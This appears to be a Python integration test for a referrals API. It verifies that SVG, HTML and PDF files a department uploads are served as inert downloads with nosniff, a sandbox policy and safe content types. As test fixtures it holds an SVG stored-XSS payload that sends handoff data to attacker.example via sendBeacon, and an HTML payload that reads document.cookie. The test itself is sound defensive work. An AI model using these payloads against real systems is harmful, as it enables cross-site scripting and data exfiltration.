"""Attacks through files a department sends, performed on the real stack and refused (docs/security.md):

a department answers a handoff with an SVG (or an HTML page) carrying script and declares its type, so that
the city office's browser, opening the file from the referrals API, runs the script in the API's origin.
"""

from __future__ import annotations

import base64

from tests.integration.referrals.conftest import Agencies
from tests.integration.referrals.test_handoffs import handed_off_case

SVG = (
    b'<svg xmlns="http://www.w3.org/2000/svg" onload="fetch(\'/v1/handoffs\').then(r => r.text())'
    b'.then(t => navigator.sendBeacon(\'https://attacker.example/\', t))"><circle r="9"/></svg>'
)
HTML = b"<!doctype html><script>alert(document.cookie)</script>"


def test_a_departments_file_is_served_as_a_download_that_runs_no_script(referral_agencies: Agencies) -> None:
    a = referral_agencies
    _, handoff = handed_off_case(a, "housing")
    hid = handoff["handoff_id"]
    files = [
        ("办理结果.svg", "image/svg+xml", SVG),
        ("说明.html", "text/html; charset=utf-8", HTML),
        ("scan.pdf", "application/pdf", b"%PDF-1.4 scan"),
    ]
    responded = a.housing.post(
        f"/v1/handoffs/{hid}/response",
        json={
            "outcome": "resolved",
            "summary": "已约谈建设单位，工程款已拨付",
            "files": [
                {"name": n, "media_type": t, "content_base64": base64.b64encode(c).decode()} for n, t, c in files
            ],
        },
    )
    assert responded.status_code == 200, responded.text
    stored = {f["name"]: f["file_id"] for f in responded.json()["files"]}

    for name, declared, content in files:
        for reader in (a.city, a.housing):
            download = reader.get(f"/v1/handoffs/{hid}/files/{stored[name]}")
            assert download.status_code == 200 and download.content == content
            headers = download.headers
            assert headers["content-disposition"].startswith("attachment;"), headers
            assert headers["x-content-type-options"] == "nosniff"
            assert "sandbox" in headers["content-security-policy"]
            expected = "application/pdf" if declared == "application/pdf" else "application/octet-stream"
            assert headers["content-type"] == expected, (name, headers["content-type"])
